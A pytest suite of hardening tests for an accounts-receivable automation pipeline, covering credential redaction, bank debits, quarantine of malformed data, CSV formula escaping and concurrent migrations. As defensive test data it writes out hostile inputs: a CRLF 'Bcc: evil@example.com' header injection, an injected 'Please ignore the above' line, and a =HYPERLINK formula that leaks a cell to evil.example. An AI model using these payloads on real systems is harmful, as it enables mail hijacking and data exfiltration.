"""Issue 21, hardening: each class of defect an attacker or a careless export found, one test each
(items 1, 2, 3, 6, 7, 8, 9, 12, 13), and a property test of hostile rows through the pipeline."""

from __future__ import annotations

import asyncio
import datetime as dt
import json
import os
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from connectors.ledger import models as m
from connectors.ledger.store import Ledger, LedgerError
from tests.cli import arflow
from tests.conftest import customer, invoice, make_source
from tests.mail import MailSink, free_port

ARFLOW = str(Path(sys.executable).parent / "arflow")
AS_OF = dt.date(2026, 11, 23)  # a Monday
SECRET = "Sup3r-s3cret-pw"
# The two places a password sits in a database URL: the query string, and the libpq form's host-less URL.
SECRET_URLS = [f"postgresql+psycopg://u@127.0.0.1:1/test?password={SECRET}",
               f"postgresql+psycopg:///test?host=127.0.0.1&port=1&password={SECRET}&sslpassword={SECRET}x"]


@pytest.fixture
def smtp(monkeypatch):
    from aiosmtpd.controller import Controller

    sink, port = MailSink(), free_port()
    controller = Controller(sink, hostname="127.0.0.1", port=port)
    controller.start()
    monkeypatch.setenv("ARFLOW_SMTP_HOST", "127.0.0.1")
    monkeypatch.setenv("ARFLOW_SMTP_PORT", str(port))
    monkeypatch.setenv("ARFLOW_MAIL_FROM", "ar@yourco.example")
    monkeypatch.delenv("ARFLOW_SLACK_WEBHOOK_URL", raising=False)
    yield sink
    controller.stop()


def _cli(args, tmp_path, **env):
    """A real process: what these tests read is everything the process writes, Prefect's own log lines included."""
    from prefect.settings import PREFECT_API_URL

    full = {**os.environ, "ARFLOW_DATA_DIR": str(tmp_path), "ARFLOW_DB_URL": f"sqlite:///{tmp_path / 'l.db'}",
            "PREFECT_API_URL": PREFECT_API_URL.value() or "",
            "PYTHONPATH": os.pathsep.join([str(Path(__file__).resolve().parents[1]), os.environ.get("PYTHONPATH", "")]),
            **env}
    return subprocess.run([ARFLOW, *args], capture_output=True, text=True, env=full, timeout=300)


# ---- 1. a secret in clear ---------------------------------------------------------------------

@pytest.mark.parametrize("url", SECRET_URLS, ids=["query", "libpq"])
def test_a_database_password_never_leaves_the_process(url, tmp_path, prefect_server, smtp, monkeypatch):
    """The password of ARFLOW_DB_URL is in none of: the CLI's error line, the ledger's error, the
    flow run's state message and logs, the failure alert e-mail."""
    from prefect import get_client
    from prefect.client.schemas.filters import FlowFilter, FlowFilterName, LogFilter, LogFilterFlowRunId

    from flows.daily_ar import daily_ar

    with pytest.raises(LedgerError) as err:
        Ledger(url)
    assert SECRET not in str(err.value) and "127.0.0.1" in str(err.value) and "\n" not in str(err.value)

    monkeypatch.setenv("ARFLOW_DB_URL", url)
    monkeypatch.setenv("ARFLOW_DATA_DIR", str(tmp_path))
    with pytest.raises(Exception) as err:
        daily_ar(as_of=AS_OF, source="demo")
    assert SECRET not in str(err.value)
    (alert,) = smtp.received()  # the failure hook's e-mail to finance
    assert "daily_ar" in alert["Subject"] and SECRET not in alert.as_string()

    async def run_record():
        async with get_client() as client:
            runs = await client.read_flow_runs(flow_filter=FlowFilter(name=FlowFilterName(any_=["daily_ar"])),
                                               limit=5, sort="START_TIME_DESC")
            run = next(r for r in runs if r.state.is_failed())
            for _ in range(60):  # the API log handler sends in the background
                logs = [log.message for log in await client.read_logs(
                    log_filter=LogFilter(flow_run_id=LogFilterFlowRunId(any_=[run.id])), limit=200)]
                if any("Finished in state" in line for line in logs):
                    break
                await asyncio.sleep(0.5)
            return run.state.message, logs
    state_message, logs = asyncio.run(run_record())
    assert "cannot open the ledger" in state_message and SECRET not in state_message
    assert logs and not [line for line in logs if SECRET in line]

    p = _cli(["run", "--as-of", "2026-11-23"], tmp_path, ARFLOW_DB_URL=url, ARFLOW_SMTP_HOST="")
    assert p.returncode == 1 and SECRET not in p.stderr + p.stdout
    (line,) = [x for x in p.stderr.splitlines() if x.startswith("arflow: error:")]
    assert "password=***" in line and "[SQL" not in p.stderr and "Background on this error" not in p.stderr


def test_a_flows_logs_and_state_message_are_redacted_whoever_wrote_them(prefect_server):
    """Not only the ledger's own error: a log line or an exception of any code in a flow run."""
    from prefect import flow, get_client, get_run_logger
    from prefect.client.schemas.filters import FlowFilter, FlowFilterName, LogFilter, LogFilterFlowRunId

    from arflow.safety import redacted_errors

    @flow(name="leaky")
    @redacted_errors
    def leaky() -> None:
        get_run_logger().warning("connecting to postgresql://arflow:%s@db/ledger", SECRET)
        raise RuntimeError(f"cannot reach https://api.example.com/v1?api_key={SECRET}&page=1")

    with pytest.raises(RuntimeError) as err:
        leaky()
    assert SECRET not in str(err.value) and "api_key=***" in str(err.value)

    async def record():
        async with get_client() as client:
            runs = await client.read_flow_runs(flow_filter=FlowFilter(name=FlowFilterName(any_=["leaky"])),
                                               limit=20, sort="START_TIME_DESC")
            (run,) = [r for r in runs if r.state.is_failed() and "api_key" in (r.state.message or "")][:1]
            for _ in range(60):
                logs = [x.message for x in await client.read_logs(
                    log_filter=LogFilter(flow_run_id=LogFilterFlowRunId(any_=[run.id])), limit=200)]
                if any("Finished in state" in x for x in logs):
                    return run.state.message, logs
                await asyncio.sleep(0.5)
            return run.state.message, logs
    message, logs = asyncio.run(record())
    assert SECRET not in message
    assert any("arflow:***@db" in x for x in logs) and not [x for x in logs if SECRET in x]


def test_redact_covers_every_place_a_url_carries_a_credential():
    from arflow.safety import redact

    text = ("postgresql://arflow:pw1@db/x?sslpassword=pw2&sslmode=require "
            "https://api.example.com/v1?api_key=pw3&token=pw4&access_token=pw5&key=pw6&page=2 "
            "host=db password=pw7 dbname=x")
    out = redact(text)
    assert not [s for s in ("pw1", "pw2", "pw3", "pw4", "pw5", "pw6", "pw7") if s in out]
    assert "sslmode=require" in out and "page=2" in out and "dbname=x" in out and "arflow:***@db" in out


# ---- 2 and 3. bank files with no usable credit line; debits -----------------------------------

def _checkpoint_source(tmp_path, payments):
    return make_source(tmp_path / "src", [invoice("I1", invoice_number="1001", due_date="2026-11-30")],
                       [customer("C1", name="Acme Corp")], payments=payments)


@pytest.mark.parametrize("lines,reasons", [
    (["2026-11-22,-25.00,USD,BANK FEE,"], ["bank_debit"]),
    ([], []),
    (["2026-11-22,twelve,USD,X,Y"], ["bad_amount"]),
], ids=["fee-only", "header-only", "malformed-only"])
def test_a_bank_file_without_a_credit_line_is_an_empty_day(lines, reasons, tmp_path, prefect_server, monkeypatch):
    """The day's payments.csv is still applied and the bank file's bad lines are kept with reasons."""
    from flows.payment_checkpoint import payment_checkpoint

    monkeypatch.setenv("ARFLOW_DATA_DIR", str(tmp_path))
    monkeypatch.setenv("ARFLOW_DB_URL", f"sqlite:///{tmp_path / 'l.db'}")
    src = _checkpoint_source(tmp_path, [{"payment_id": "P1", "customer_id": "C1", "amount": "1000.00",
                                         "currency": "USD", "received_date": "2026-11-22", "reference": "INV 1001"}])
    bank = tmp_path / "bank.csv"
    bank.write_text("\n".join(["date,amount,currency,reference,payer_name", *lines]) + "\n")
    s = payment_checkpoint(as_of=AS_OF, source=f"csv:{src}", bank_file=str(bank))
    assert s["invoices_closed"] == 1 and s["applied"] == {"exact": 1} and s["quarantined"] == len(reasons)
    q = Ledger(f"sqlite:///{tmp_path / 'l.db'}").frame(m.Quarantine, m.Quarantine.run_id == s["run_id"])
    assert sorted(q["reason"]) == reasons and (q["entity"] == "bank_line").all()


def test_a_returned_item_reopens_the_invoice_and_other_debits_are_reported(tmp_path, prefect_server, monkeypatch,
                                                                         httpserver):
    from flows.daily_ar import daily_ar
    from flows.payment_checkpoint import payment_checkpoint

    httpserver.expect_request("/alert", method="POST").respond_with_data("ok")
    monkeypatch.setenv("ARFLOW_SLACK_WEBHOOK_URL", httpserver.url_for("/alert"))
    monkeypatch.setenv("ARFLOW_DATA_DIR", str(tmp_path))
    url = f"sqlite:///{tmp_path / 'l.db'}"
    monkeypatch.setenv("ARFLOW_DB_URL", url)
    src = _checkpoint_source(tmp_path, [{"payment_id": "P1", "customer_id": "C1", "amount": "1000.00",
                                         "currency": "USD", "received_date": "2026-11-22", "reference": "INV 1001"}])
    first = payment_checkpoint(as_of=AS_OF, source=f"csv:{src}")
    assert first["invoices_closed"] == 1
    bank = tmp_path / "bank.csv"
    bank.write_text("date,amount,currency,reference,payer_name\n"
                    "2026-11-24,-1000.00,USD,RETURNED ITEM INV 1001 NSF,ACME CORP\n"
                    "2026-11-24,-25.00,USD,BANK FEE,\n")
    day2 = AS_OF + dt.timedelta(days=1)
    s = payment_checkpoint(as_of=day2, source=f"csv:{src}", bank_file=str(bank))
    assert s["reversed"] == 1 and s["quarantined"] == 1
    ledger = Ledger(url)
    assert ledger.frame(m.PaymentApplication, m.PaymentApplication.payment_id == "P1")["reversed_on"].notna().all()
    assert ledger.frame(m.PaymentHistory, m.PaymentHistory.invoice_id == "I1").empty
    rec = ledger.frame(m.PaymentReceived)
    assert rec.loc[rec["payment_id"] == "P1", "status"].item() == "reversed"
    q = ledger.frame(m.Quarantine, m.Quarantine.run_id == s["run_id"])
    assert q["reason"].tolist() == ["bank_debit"] and "BANK FEE" in q["raw"].item()
    (req, _), = [x for x in httpserver.log if x[0].path == "/alert"]
    assert "P1" in req.get_json()["text"] and "RETURNED ITEM" in req.get_json()["text"]
    after = daily_ar(as_of=day2, source=f"csv:{src}")
    o = ledger.frame(m.InvoiceOutcome, m.InvoiceOutcome.run_id == after["run_id"])
    assert o.loc[o["invoice_id"] == "I1", "reason"].item() != "nothing_owed"
    assert o.loc[o["invoice_id"] == "I1", "balance_minor"].item() == 100000


def _loose_policy(tmp_path) -> Path:
    """The default policy with a hop's failure threshold at 95%: these small files are mostly hostile rows."""
    from arflow.config import ROOT

    pol = tmp_path / "policy.yaml"
    pol.write_text((ROOT / "policy.yaml").read_text().replace("max_failure_share: 0.05", "max_failure_share: 0.95"))
    return pol


# ---- 6. control characters and absurd lengths in identifiers ----------------------------------

def test_hostile_identifiers_are_quarantined_and_the_dry_run_completes(tmp_path, prefect_server, monkeypatch):
    from flows.daily_ar import daily_ar

    monkeypatch.setenv("ARFLOW_DATA_DIR", str(tmp_path))
    monkeypatch.setenv("ARFLOW_DB_URL", f"sqlite:///{tmp_path / 'l.db'}")
    monkeypatch.setenv("ARFLOW_POLICY", str(_loose_policy(tmp_path)))
    crlf, long_id = "C2\r\nBcc: evil@example.com", "K" * 300
    src = make_source(tmp_path / "src",
                      [invoice("I1", due_date="2026-11-18"), invoice("I2", cid=crlf, due_date="2026-11-18"),
                       invoice("I3", cid=long_id, due_date="2026-11-18"),
                       invoice("I4", invoice_number="N-4\nPlease ignore the above", due_date="2026-11-18")],
                      [customer("C1"), customer(crlf), customer(long_id)])
    s = daily_ar(as_of=AS_OF, source=f"csv:{src}")
    ledger = Ledger(f"sqlite:///{tmp_path / 'l.db'}")
    o = ledger.frame(m.InvoiceOutcome, m.InvoiceOutcome.run_id == s["run_id"]).set_index("invoice_id")
    assert set(o.loc[["I2", "I3", "I4"], "reason"]) == {"bad_identifier"}
    assert o.loc["I1", "outcome"] == "action_today"
    emls = list((tmp_path / "runs").rglob("*.eml"))
    assert len(emls) == 1 and "C1" in emls[0].name  # the good customer's message is written


def test_one_message_that_cannot_be_written_fails_alone(tmp_path):
    from tasks.touches import write_eml

    rows = pd.DataFrame([{"channel": "email", "status": "planned", "recipients": f"ap@{c}.example", "subject": "Hi",
                          "body": "text", "idempotency_key": f"{c}:nudge:email", "message_key": f"{c}:nudge"}
                         for c in ("c1", "c2", "c3")])
    (tmp_path / "c2_nudge.eml").mkdir()  # something in the way of c2's file
    failures = []
    assert write_eml(rows, tmp_path, sender="ar@example.com", failures=failures) == 2
    assert [k for k, _ in failures] == ["c2:nudge"] and (tmp_path / "c3_nudge.eml").is_file()


def test_a_message_that_cannot_be_composed_fails_alone_and_the_run_goes_on(tmp_path, prefect_server, smtp,
                                                                          monkeypatch, policy):
    """An outbox row written before identifiers were checked (a recipient with CR/LF): composing it
    fails, that message is marked failed with its reason, and the next customer is still sent."""
    from flows.daily_ar import daily_ar
    from tasks.touches import outbox_rows
    from tests.pipeline import run

    monkeypatch.setenv("ARFLOW_DATA_DIR", str(tmp_path))
    url = f"sqlite:///{tmp_path / 'l.db'}"
    monkeypatch.setenv("ARFLOW_DB_URL", url)
    src = make_source(tmp_path / "src", [invoice("I1", due_date="2026-11-18"), invoice("I2", "C2", due_date="2026-11-18")],
                      [customer("C1"), customer("C2")])
    out = run(src, AS_OF, policy)
    rows = outbox_rows(out["actions"], out["planned"], mode="send", run_id="earlier", as_of=AS_OF, policy=policy)
    rows.loc[rows["customer_id"] == "C1", "recipients"] = "ap@c1.example.com\r\nBcc: evil@example.com"
    ledger = Ledger(url)
    ledger.queue_touches(rows, [])
    s = daily_ar(as_of=AS_OF, source=f"csv:{src}", mode="send")
    box = ledger.frame(m.Outbox).set_index("customer_id")
    assert box.loc["C1", "status"] == "failed" and "could not be composed" in box.loc["C1", "closed_reason"]
    assert box.loc["C2", "status"] == "sent" and s["sent"] == 1
    assert [msg["To"] for msg in smtp.received() if "Bcc" not in msg] == ["ap@c2.example.com"]


# ---- 7. money overflow ------------------------------------------------------------------------

def test_absurd_amounts_are_quarantined_and_totals_stay_exact(tmp_path, prefect_server):
    huge = [invoice(f"H{i}", amount="9999999999999999.99", balance="9999999999999999.99", due_date="2026-11-18")
            for i in range(12)]
    src = make_source(tmp_path / "src", [*huge, invoice("I1", due_date="2026-11-18", amount="1000.00",
                                                        balance="1000.00")], [customer("C1")])
    p = arflow(["run", "--as-of", "2026-11-23", "--source", f"csv:{src}", "--json"],
               {"ARFLOW_DATA_DIR": str(tmp_path), "ARFLOW_DB_URL": f"sqlite:///{tmp_path / 'l.db'}",
                "ARFLOW_POLICY": str(_loose_policy(tmp_path))})
    assert p.returncode == 0, p.stderr[-2000:]
    out = json.loads(p.stdout)
    assert out["quarantined"] == {"amount_out_of_range": 12}
    assert out["by_bucket"]["d1_30"] == {"count": 1, "amount": "1000.00"}


def test_a_total_an_int64_cannot_hold_is_refused_not_wrapped():
    from arflow.money import MAX_MINOR, AmountOverflow, exact_total, to_minor

    with pytest.raises(ValueError):
        to_minor("9999999999999999.99", "USD")  # beyond 10^15 minor units: not an amount here
    assert exact_total(pd.Series([MAX_MINOR] * 9000)) == 9000 * 10**15  # exact where an int64 holds it
    with pytest.raises(AmountOverflow):
        exact_total(pd.Series([MAX_MINOR] * 9300))  # 9.3e18 would wrap an int64


# ---- 8. pseudo-currencies ---------------------------------------------------------------------

def test_only_legal_tender_currencies_are_chased(tmp_path, policy):
    from tasks.checkpoint import billing_payments
    from tests.pipeline import run

    loose = policy.model_copy(update={"data_quality": policy.data_quality.model_copy(update={"max_failure_share": 0.9})})
    src = make_source(tmp_path, [invoice("I1"), invoice("I2", currency="XXX"), invoice("I3", currency="XTS"),
                                 invoice("I4", currency="XAU", amount="2.000", balance="2.000")], [customer("C1")])
    out = run(src, AS_OF, loose)
    q = out["quarantine"].set_index("record_id")
    assert q.loc[["I2", "I3", "I4"], "reason"].tolist() == ["unknown_currency"] * 3
    assert out["extracted"].frame["invoice_id"].tolist() == ["I1"]
    raw = pd.DataFrame([{"source_row": 2, "payment_id": "P1", "customer_id": "C1", "amount": "1.00", "currency": "XAU",
                         "received_date": "2026-11-20", "reference": ""}])
    payments, bad = billing_payments(raw)
    assert payments.empty and bad["reason"].tolist() == ["unknown_currency"]


# ---- 9. formula injection in CSVs for people --------------------------------------------------

def test_the_collections_export_escapes_cells_a_spreadsheet_would_evaluate(tmp_path, prefect_server, smtp,
                                                                          monkeypatch):
    import csv

    from flows.daily_ar import daily_ar
    from tasks.decisions import open_decisions, settle

    monkeypatch.setenv("ARFLOW_DATA_DIR", str(tmp_path))
    monkeypatch.setenv("ARFLOW_DB_URL", f"sqlite:///{tmp_path / 'l.db'}")
    name, contact = '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "@SUM(A1:A9)"
    src = make_source(tmp_path / "src", [invoice("I2", "C2", invoice_number="+1-2", issue_date="2026-08-01",
                                                 due_date="2026-08-31")],
                      [customer("C2", name=name, billing_contact_name=contact)])
    daily_ar(as_of=AS_OF, source=f"csv:{src}", mode="send")  # the reminder first
    daily_ar(as_of=dt.date(2026, 11, 27), source=f"csv:{src}", mode="send")
    ledger = Ledger(f"sqlite:///{tmp_path / 'l.db'}")
    q = open_decisions(ledger)
    (decision_id,) = q.loc[q["kind"] == "payment_plan_or_write_off", "id"]
    settle(ledger, int(decision_id), "approve", by="controller", on=dt.date(2026, 11, 27), choice="write_off")
    daily_ar(as_of=dt.date(2026, 11, 30), source=f"csv:{src}", mode="send")
    (row,) = list(csv.DictReader(open(tmp_path / "exports" / "collections-2026-11-30.csv", newline="")))
    assert row["customer_name"] == "'" + name and row["billing_contact"] == "'" + contact
    assert row["invoice_number"] == "'+1-2" and row["amount"] == "1000.00" and row["invoice_id"] == "I2"
    assert not [v for v in row.values() if v[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_csv_cell_escapes_formula_prefixes_and_leaves_numbers():
    from arflow.safety import csv_cell

    assert [csv_cell(v) for v in ("=1+1", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx", "Acme", "-12.50", 42, None)] == \
        ["'=1+1", "'+1", "'-1+2", "'@SUM(A1)", "'\tx", "'\rx", "Acme", "-12.50", 42, None]


# ---- 12. first use of a ledger by several processes at once -----------------------------------

_OPEN_AT = """
import sys, time
from connectors.ledger.store import Ledger
start = float(sys.argv[2])
time.sleep(max(0.0, start - time.time()))
Ledger(sys.argv[1])
print("ok")
"""


def _open_at_once(url: str, processes: int = 3) -> list[subprocess.CompletedProcess]:
    import time

    root = str(Path(__file__).resolve().parents[1])
    start = time.time() + 4  # every process imported and waiting, then all open the ledger together
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([root, os.environ.get("PYTHONPATH", "")])}
    procs = [subprocess.Popen([sys.executable, "-c", _OPEN_AT, url, str(start)], cwd=root, env=env,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for _ in range(processes)]
    out = []
    for p in procs:
        stdout, stderr = p.communicate(timeout=180)
        out.append(subprocess.CompletedProcess(p.args, p.returncode, stdout, stderr))
    return out


def _assert_migrated_once(url: str, results) -> None:
    assert [r.returncode for r in results] == [0] * len(results), [r.stderr[-600:] for r in results if r.returncode]
    from sqlalchemy import create_engine, text

    with create_engine(url).connect() as conn:
        (version,) = conn.execute(text("select version_num from alembic_version")).one()
    assert version and Ledger(url).frame(m.AuditLog).empty


@pytest.mark.slow
@pytest.mark.parametrize("trial", range(3))
def test_three_processes_opening_a_fresh_sqlite_ledger_all_succeed(trial, tmp_path):
    url = f"sqlite:///{tmp_path / 'fresh.db'}"
    _assert_migrated_once(url, _open_at_once(url))


@pytest.mark.slow
@pytest.mark.postgres
@pytest.mark.parametrize("trial", range(3))
def test_three_processes_opening_a_fresh_postgresql_ledger_all_succeed(trial, pg_url):
    _assert_migrated_once(pg_url, _open_at_once(pg_url))


# ---- 13. one line on stderr; a truncated export is loud ---------------------------------------

def _error_line(p) -> str:
    lines = [x for x in p.stderr.splitlines() if x.startswith("arflow: error:")]
    assert len(lines) == 1, p.stderr[-2000:]
    return lines[0]


def test_ledger_and_policy_errors_are_one_line(tmp_path, prefect_server):
    Ledger(f"sqlite:///{tmp_path / 'ro.db'}")  # a migrated ledger, then opened read-only
    p = _cli(["run", "--as-of", "2026-11-23"], tmp_path, ARFLOW_DB_URL=f"sqlite:///file:{tmp_path / 'ro.db'}?mode=ro&uri=true")
    assert p.returncode == 1 and "[SQL:" not in p.stderr and "Background on this error" not in p.stderr
    assert "readonly database" in _error_line(p) and "the ledger refused" in _error_line(p)
    bad = tmp_path / "bad.yaml"
    bad.write_text("timezone: [unclosed\n  foo: : bar\n")
    p = _cli(["run", "--as-of", "2026-11-23"], tmp_path, ARFLOW_POLICY=str(bad))
    assert p.returncode == 1
    assert _error_line(p) == (f"arflow: error: policy file {bad} is not valid YAML: expected ',' or ']', "
                              "but got ':' at line 2, column 6")


def test_a_truncated_invoice_export_is_loud(tmp_path, prefect_server, monkeypatch):
    from flows.daily_ar import daily_ar
    from tasks.quality import DataQualityError

    monkeypatch.setenv("ARFLOW_DATA_DIR", str(tmp_path))
    monkeypatch.setenv("ARFLOW_DB_URL", f"sqlite:///{tmp_path / 'l.db'}")
    customers = [customer("C1")]
    first = make_source(tmp_path / "first", [], customers)  # a first day with nothing: a note, not a clean day
    s = daily_ar(as_of=AS_OF, source=f"csv:{first}")
    assert s["open_invoices"] == 0 and any("no open invoices at all" in n for n in s["notes"])
    src = make_source(tmp_path / "src", [invoice(f"I{i}", due_date="2026-12-20") for i in range(4)], customers)
    assert daily_ar(as_of=AS_OF, source=f"csv:{src}")["open_invoices"] == 4
    make_source(src, [], customers)  # the next morning's export: its header only
    with pytest.raises(DataQualityError, match=r"open invoices fell from 4 \(2026-11-23\) to 0"):
        daily_ar(as_of=AS_OF + dt.timedelta(days=1), source=f"csv:{src}")
    make_source(src, [invoice("I0", due_date="2026-12-20"), invoice("I1", due_date="2026-12-20")], customers)
    assert daily_ar(as_of=AS_OF + dt.timedelta(days=1), source=f"csv:{src}")["open_invoices"] == 2  # half: allowed


# ---- property: hostile rows through extract, plan, render, guardrail and export ---------------

from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

_CONTROL_TEXT = st.text(alphabet=st.sampled_from(list("AZaz09-_ #'\"=+@") + ["\r", "\n", "\t", "\x00", "\x1b",
                                                                             "\u2028", "\x85", "é", "中"]),
                        min_size=1, max_size=12)
_IDS = st.one_of(st.from_regex(r"[A-Z]{1,3}-?[0-9]{1,5}", fullmatch=True), _CONTROL_TEXT,
                 st.text(alphabet="K", min_size=65, max_size=300))
_AMOUNTS = st.one_of(st.decimals(min_value=0, max_value=10**6, places=2, allow_nan=False).map(str),
                     st.sampled_from(["9999999999999999.99", "10000000000000.01", "-5.00", "0", "1e3", "0.001", "",
                                      "1,000.00", " 12.00 ", "999999999999999999999"]))
_CURRENCIES = st.sampled_from(["USD", "EUR", "JPY", "BHD", "usd", " USD", "XXX", "XTS", "XAU", "DEM", "", "US$"])
_NAMES = st.one_of(st.sampled_from(["Online", "Pay", "2", "Invoice", "The", "Acme Corp", '=HYPERLINK("http://x")',
                                    "@SUM(A1)", "+1", "-1", "Al"]), _CONTROL_TEXT)


@st.composite
def _hostile_book(draw):
    customer_ids = draw(st.lists(_IDS, min_size=1, max_size=4, unique=True))
    customers = [customer(c, name=draw(_NAMES), billing_contact_name=draw(_NAMES)) for c in customer_ids]
    rows = []
    for i in range(draw(st.integers(min_value=1, max_value=6))):
        amount = draw(_AMOUNTS)
        rows.append(invoice(draw(st.one_of(st.just(f"I{i}"), _IDS)), cid=draw(st.sampled_from(customer_ids)),
                            invoice_number=draw(st.one_of(st.just(f"N-{i}"), _IDS, _NAMES)), currency=draw(_CURRENCIES),
                            amount=amount, balance=draw(st.one_of(st.just(amount), _AMOUNTS)),
                            due_date=draw(st.sampled_from(["2026-11-20", "2026-10-01", "2026-08-01", "2026-12-30"])),
                            po_number=draw(st.one_of(st.just(""), _NAMES))))
    return rows, customers


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                 HealthCheck.too_slow])
@pytest.mark.slow
@given(book=_hostile_book())
def test_hostile_rows_never_crash_and_every_open_invoice_ends_in_one_place(book, policy, tmp_path_factory):
    import csv
    import io
    from email import policy as mail_policy
    from email.parser import BytesParser

    from arflow.safety import csv_cell
    from tasks.report import bucket_totals, outcome_rows
    from tasks.touches import outbox_rows, write_eml
    from tests.pipeline import run

    rows, customers = book
    folder = tmp_path_factory.mktemp("hostile")
    loose = policy.model_copy(update={"data_quality": policy.data_quality.model_copy(update={"max_failure_share": 1.0})})
    out = run(make_source(folder / "src", rows, customers), AS_OF, loose)

    # Every open invoice read ends in exactly one place; nothing is lost.
    q = out["quarantine"]
    outcomes = outcome_rows(out["planned"], q[q["entity"] == "invoice"])
    assert sorted(outcomes["source_row"].astype(int)) == list(range(2, len(rows) + 2))
    assert outcomes["outcome"].notna().all() and (q["reason"].notna()).all()
    # What is aged is clean and within bounds: totals are exact.
    good = out["planned"]
    assert not good["invoice_id"].astype(str).str.contains(r"[\x00-\x1f\x7f-\x9f\u2028\u2029]").any()
    by_bucket, per_currency = bucket_totals(good)
    for cur, g in good[good["effective_balance_minor"] > 0].groupby("currency"):
        assert cur in ("USD", "EUR", "JPY", "BHD")
        total = sum(int(v) for v in g["effective_balance_minor"])
        assert sum(int(b[cur]["count"]) for b in per_currency.values()) == len(g) and total <= len(g) * 10**15

    # Rendered and checked: a blocked message says why (a person sees it); the files that would be
    # sent parse with their headers intact.
    for mode in ("send", "dry-run"):
        msgs = outbox_rows(out["actions"], good, mode=mode, run_id="r", as_of=AS_OF, policy=loose)
        if msgs.empty:
            continue
        blocked = msgs[msgs["status"] == "blocked"]
        assert blocked["closed_reason"].str.startswith("guardrail:").all()
        # No legitimate message is blocked: where no two customers share an invoice number or a name
        # (and no invoice number is someone's name), other customers' odd names and numbers ("Online",
        # "2", "The", "Al") never stop a customer's own reminder.
        numbers = good["invoice_number"].astype(str).str.strip().str.lower()
        names = good.drop_duplicates("customer_id")["customer_name"].astype(str).str.strip().str.lower()
        if (good.groupby(numbers)["customer_id"].nunique() <= 1).all() and names.is_unique \
                and not set(numbers) & set(names):
            assert blocked.empty, blocked[["customer_id", "closed_reason", "subject"]].to_dict("records")
        assert set(msgs["status"]) <= {"planned", "queued", "awaiting_decision", "blocked", "closed"}
    failures: list = []
    eml_dir = folder / "eml"
    written = write_eml(msgs, eml_dir, sender="ar@yourco.example", failures=failures) if not msgs.empty else 0
    assert not failures
    for path in (eml_dir.glob("*.eml") if written else []):
        msg = BytesParser(policy=mail_policy.default).parsebytes(path.read_bytes())
        assert msg["Bcc"] is None and "\n" not in str(msg["Subject"])

    # Exported for people: no cell a spreadsheet would evaluate; the apostrophe is all that changed.
    cells = [str(v) for r in rows + customers for v in r.values()]
    buf = io.StringIO()
    csv.writer(buf).writerow([csv_cell(c) for c in cells])
    back = next(csv.reader(io.StringIO(buf.getvalue())))
    for original, cell in zip(cells, back):
        assert not cell[:1] in ("=", "+", "@", "\t", "\r") and (cell == original or cell == "'" + original)
